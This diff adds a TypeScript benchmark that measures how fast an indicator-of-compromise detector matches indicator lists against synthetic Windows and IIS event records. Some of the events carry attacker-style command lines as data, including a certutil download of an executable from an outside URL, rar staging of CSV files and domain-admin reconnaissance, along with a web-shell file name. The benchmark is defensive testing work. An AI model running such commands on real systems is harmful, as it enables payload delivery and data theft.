@@ -1,0 +1,197 @@
+/**
+ * Indicator-matching benchmark: events/s of the ioc detector with 100, 10,000 and 1,000,000
+ * indicators on the same real-shaped events (Sysmon process/network/DNS/file/registry, Security
+ * 4688/4697, System 7045, Defender 1116, IIS W3C), to show the cost stays nearly flat.
+ *
+ *   npm run build && node dist/bench/ioc.js
+ *
+ * Indicator mix at every size: domains 40%, IPv4 25%, CIDR 4%, IPv6 2%, SHA-256 10%, SHA-1 5%,
+ * MD5 5%, file names 4%, URLs 2%, registry keys 1%, service names 1%, AV names 1%; the same
+ * 12 planted indicators (which some events contain) are part of every set.
+ */
+import { fileURLToPath } from 'node:url';
+import path from 'node:path';
+import { createIocDetector } from '../src/ioc/index.js';
+import type { Indicator, IndicatorType } from '../src/intel/index.js';
+import type { HuntEvent, EventFields } from '../src/events/event.js';
+
+function rng(seed: number): () => number {
+  let a = seed;
+  return () => {
+    a = (a + 0x6d2b79f5) | 0;
+    let t = Math.imul(a ^ (a >>> 15), 1 | a);
+    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const PLANTED: [IndicatorType, string][] = [
+  ['domain', 'asyspy256.ddns.net'], ['ipv4', '45.251.241.82'], ['cidr', '103.179.188.0/24'],
+  ['ipv6', '2a03:b0c0:3:d0::1a51:c001'], ['sha256', '9ae7c4a4e1cfe9b505c3a47e66551eb1357affee65bfefb0109d02f4e97c06dd'],
+  ['sha1', '53a44c2396d15c3a03723fa5e5db54cafd527635'], ['md5', '0c7f4a32d8e1b5f6a9c3e2d1b0a4f5e6'],
+  ['filename', 'errorEE.aspx'], ['url', 'http://t1.hinitial.com/api/ping.php'],
+  ['registry', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\Iph1psvc'], ['service_name', 'IP He1per'],
+  ['av_signature', 'Trojan:Win32/QuarkBandit.A!dha'],
+];
+
+const MIX: [IndicatorType, number][] = [
+  ['domain', 0.4], ['ipv4', 0.25], ['cidr', 0.04], ['ipv6', 0.02], ['sha256', 0.1], ['sha1', 0.05], ['md5', 0.05],
+  ['filename', 0.04], ['url', 0.02], ['registry', 0.01], ['service_name', 0.01], ['av_signature', 0.01],
+];
+
+function hex(r: () => number, n: number): string {
+  let s = '';
+  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(r() * 16)];
+  return s;
+}
+function word(r: () => number, min: number, max: number): string {
+  const n = min + Math.floor(r() * (max - min + 1));
+  let s = '';
+  for (let i = 0; i < n; i++) s += 'abcdefghijklmnopqrstuvwxyz0123456789'[Math.floor(r() * 36)];
+  return s;
+}
+const TLDS = ['com', 'net', 'org', 'info', 'biz', 'ru', 'cn', 'top', 'xyz', 'io'];
+
+function randomValue(type: IndicatorType, r: () => number): string {
+  const ip = (): string => `${1 + Math.floor(r() * 222)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}`;
+  switch (type) {
+    case 'domain': return `${word(r, 4, 12)}.${r() < 0.3 ? `${word(r, 3, 8)}.` : ''}${TLDS[Math.floor(r() * TLDS.length)]}`;
+    case 'ipv4': return ip();
+    case 'cidr': { const len = 20 + Math.floor(r() * 9); return `${ip()}/${len}`; }
+    case 'ipv6': return `2a0${Math.floor(r() * 9)}:${hex(r, 4)}:${hex(r, 4)}::${hex(r, 4)}`;
+    case 'sha256': return hex(r, 64);
+    case 'sha1': return hex(r, 40);
+    case 'md5': return hex(r, 32);
+    case 'filename': return `${word(r, 4, 10)}.${['exe', 'dll', 'aspx', 'ps1', 'bat'][Math.floor(r() * 5)]}`;
+    case 'url': return `http://${word(r, 5, 10)}.${TLDS[Math.floor(r() * TLDS.length)]}/${word(r, 3, 8)}/${word(r, 3, 8)}.php`;
+    case 'registry': return `HKLM\\SOFTWARE\\${word(r, 5, 10)}\\${word(r, 5, 12)}`;
+    case 'service_name': return word(r, 6, 14);
+    case 'av_signature': return `Trojan:Win32/${word(r, 5, 10)}.A!dha`;
+  }
+}
+
+export function benchIndicators(n: number): Indicator[] {
+  const r = rng(7);
+  const out: Indicator[] = PLANTED.slice(0, Math.min(n, PLANTED.length)).map(([type, value]) => ({ type, value, source: 'planted', tags: ['bench'] }));
+  for (const [type, share] of MIX) {
+    const k = Math.round((n - PLANTED.length) * share);
+    for (let i = 0; i < k && out.length < n; i++) out.push({ type, value: randomValue(type, r), source: 'bench', tags: [] });
+  }
+  while (out.length < n) out.push({ type: 'domain', value: randomValue('domain', r), source: 'bench', tags: [] });
+  return out;
+}
+
+/** Real-shaped events with varied values; about 1 in 50 carries a planted indicator. */
+export function benchEvents(count: number): HuntEvent[] {
+  const r = rng(11);
+  const users = ['CORP\\svc_web', 'CORP\\alice', 'NT AUTHORITY\\SYSTEM', 'CORP\\bob.admin'];
+  const hosts = ['WEB01.corp.example', 'DC01.corp.example', 'FS02.corp.example', 'WS114.corp.example'];
+  const benignDomains = ['login.microsoftonline.com', 'ctldl.windowsupdate.com', 'www.bing.com', 'cdn.office.net', 'wpad.corp.example'];
+  const events: HuntEvent[] = [];
+  for (let i = 0; i < count; i++) {
+    const host = hosts[i % hosts.length]!;
+    const plant = i % 50 === 0;
+    const t = Date.parse('2019-03-04T00:00:00Z') + i * 1000;
+    const base = { Computer: host, TimeCreated: new Date(t).toISOString(), EventRecordID: 1000 + i, ProcessID: 4 + (i % 900) };
+    const kind = i % 9;
+    const lip = `10.${i % 255}.${(i * 7) % 255}.${(i * 13) % 255}`;
+    const rip = `${20 + (i % 180)}.${(i * 3) % 255}.${(i * 11) % 255}.${(i * 17) % 255}`;
+    let f: EventFields;
+    switch (kind) {
+      case 0:
+        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Provider_Name: 'Microsoft-Windows-Sysmon',
+          UtcTime: base.TimeCreated, ProcessGuid: `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`,
+          Image: `C:\\Windows\\System32\\${['cmd.exe', 'powershell.exe', 'net.exe', 'ipconfig.exe', 'rundll32.exe'][i % 5]}`,
+          FileVersion: '10.0.17763.1 (WinBuild.160101.0800)', Description: 'Windows Command Processor', Product: 'Microsoft Windows Operating System',
+          Company: 'Microsoft Corporation', OriginalFileName: 'Cmd.Exe',
+          CommandLine: plant ? 'cmd /c ping -n 1 asyspy256.ddns.net & certutil -urlcache -f http://t1.hinitial.com/api/ping.php c:\\windows\\temp\\p.exe'
+            : `cmd /c "dir C:\\inetpub\\wwwroot\\${word(r, 4, 8)} /s & net group \\"Domain Admins\\" /domain & echo ${word(r, 5, 20)}"`,
+          CurrentDirectory: 'C:\\Windows\\system32\\', User: users[i % 4]!, LogonGuid: `{${hex(r, 8)}-0000-0000-0000-${hex(r, 12)}}`, LogonId: `0x${hex(r, 6)}`,
+          TerminalSessionId: 0, IntegrityLevel: 'High',
+          Hashes: `SHA1=${plant ? '53a44c2396d15c3a03723fa5e5db54cafd527635' : hex(r, 40).toUpperCase()},MD5=${hex(r, 32).toUpperCase()},SHA256=${hex(r, 64).toUpperCase()},IMPHASH=${hex(r, 32).toUpperCase()}`,
+          ParentProcessGuid: `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`, ParentProcessId: 4400 + (i % 50),
+          ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', ParentCommandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm' };
+        break;
+      case 1:
+        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 3, UtcTime: base.TimeCreated, Image: 'C:\\Windows\\System32\\svchost.exe',
+          User: users[i % 4]!, Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: lip, SourceHostname: host, SourcePort: 49152 + (i % 10000),
+          DestinationIsIpv6: 'false', DestinationIp: plant ? '45.251.241.82' : rip, DestinationHostname: plant ? 'v4.hinitial.com' : `${word(r, 3, 8)}.akamaiedge.net`, DestinationPort: 443, DestinationPortName: 'https' };
+        break;
+      case 2:
+        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 22, UtcTime: base.TimeCreated, Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+          QueryName: plant ? 'rosaf112.ddns.net' : benignDomains[i % benignDomains.length]!, QueryStatus: '0',
+          QueryResults: plant ? '::ffff:103.179.188.20;' : `type:  5 ${word(r, 4, 9)}.trafficmanager.net;::ffff:${rip};` };
+        break;
+      case 3:
+        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 11, UtcTime: base.TimeCreated, Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
+          TargetFilename: plant ? 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEE.aspx' : `C:\\Windows\\Temp\\${word(r, 6, 12)}.tmp`, CreationUtcTime: base.TimeCreated };
+        break;
+      case 4:
+        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 13, EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe',
+          TargetObject: plant ? 'HKLM\\System\\CurrentControlSet\\Services\\Iph1psvc\\Parameters\\ServiceDll' : `HKLM\\System\\CurrentControlSet\\Services\\${word(r, 5, 10)}\\Start`,
+          Details: 'DWORD (0x00000002)' };
+        break;
+      case 5:
+        f = { ...base, Channel: 'Security', EventID: 4688, SubjectUserSid: 'S-1-5-18', SubjectUserName: `${host.split('.')[0]}$`, SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7',
+          NewProcessId: `0x${hex(r, 4)}`, NewProcessName: 'C:\\Windows\\System32\\rar.exe', TokenElevationType: '%%1936', ProcessId: `0x${hex(r, 4)}`,
+          CommandLine: `rar.exe a -hp${word(r, 8, 12)} -v200m C:\\ProgramData\\${word(r, 4, 8)}.rar \\\\${lip}\\cdr$\\${word(r, 6, 10)}.csv`,
+          TargetUserSid: 'S-1-0-0', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', MandatoryLabel: 'S-1-16-12288' };
+        break;
+      case 6:
+        f = { ...base, Channel: 'System', EventID: 7045, Provider_Name: 'Service Control Manager',
+          ServiceName: plant ? 'IP He1per' : `${word(r, 5, 12)} Service`, ImagePath: `"C:\\Program Files\\${word(r, 5, 10)}\\svc.exe" -k`, ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' };
+        break;
+      case 7:
+        f = { ...base, Channel: 'Microsoft-Windows-Windows Defender/Operational', EventID: 1116, 'Product Name': 'Microsoft Defender Antivirus', 'Product Version': '4.18.1909.6',
+          'Detection ID': `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`, 'Threat ID': 2147723 + (i % 1000),
+          'Threat Name': plant ? 'Trojan:Win32/QuarkBandit.A!dha' : `HackTool:Win32/${word(r, 5, 9)}`, 'Severity Name': 'High', 'Category Name': 'Tool',
+          Path: `file:_C:\\Users\\Public\\${word(r, 5, 9)}.exe`, 'Detection Origin Name': 'Local machine', 'Process Name': 'C:\\Windows\\explorer.exe', 'Detection User': users[i % 4]! };
+        break;
+      default:
+        f = { date: '2019-03-04', time: '10:22:31', 's-sitename': 'W3SVC1', 's-computername': host.split('.')[0]!, 's-ip': lip, 'cs-method': 'POST',
+          'cs-uri-stem': plant ? '/aspnet_client/system_web/errorEE.aspx' : `/owa/${word(r, 4, 9)}.aspx`, 'cs-uri-query': `id=${word(r, 4, 12)}`, 's-port': 443,
+          'cs-username': '-', 'c-ip': plant ? '2a03:b0c0:3:d0::1a51:c001' : rip, 'cs(User-Agent)': 'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36',
+          'cs(Referer)': '-', 'cs-host': 'mail.operator.example', 'sc-status': 200, 'sc-substatus': 0, 'sc-win32-status': 0, 'time-taken': 15 };
+    }
+    events.push({ fields: f, source: { path: 'bench', record: i + 1, format: 'jsonl' }, time: t, raw: f });
+  }
+  return events;
+}
+
+export async function runIocBench(): Promise<void> {
+  const events = benchEvents(20_000);
+  process.stdout.write(`ioc bench: ${events.length} real-shaped events (Sysmon 1/3/11/13/22, Security 4688, System 7045, Defender 1116, IIS W3C), one thread\n`);
+  process.stdout.write('indicators   build ms   heap MB   events/s   findings/pass\n');
+  for (const n of [100, 10_000, 1_000_000]) {
+    const indicators = benchIndicators(n);
+    global.gc?.();
+    const heap0 = process.memoryUsage().heapUsed;
+    const t0 = performance.now();
+    const det = createIocDetector(indicators);
+    const build = performance.now() - t0;
+    const heap = (process.memoryUsage().heapUsed - heap0) / 2 ** 20;
+    let findings = 0;
+    const emit = (): void => void findings++;
+    // Warm up, then time whole passes for at least 2 s.
+    for (const e of events) det.examine(e, emit);
+    findings = 0;
+    let passes = 0;
+    const start = performance.now();
+    while (performance.now() - start < 2000) {
+      for (const e of events) det.examine(e, emit);
+      passes++;
+    }
+    const secs = (performance.now() - start) / 1000;
+    const rate = (passes * events.length) / secs;
+    process.stdout.write(
+      `${String(n).padStart(10)}   ${build.toFixed(0).padStart(8)}   ${heap.toFixed(0).padStart(7)}   ${Math.round(rate).toLocaleString('en-US').padStart(9)}   ${String(findings / passes).padStart(13)}\n`,
+    );
+  }
+}
+
+if (process.argv[1] && fileURLToPath(import.meta.url) === path.resolve(process.argv[1])) {
+  runIocBench().catch((err: unknown) => {
+    process.stderr.write(`ioc bench: ${err instanceof Error ? err.message : String(err)}\n`);
+    process.exitCode = 1;
+  });
+}
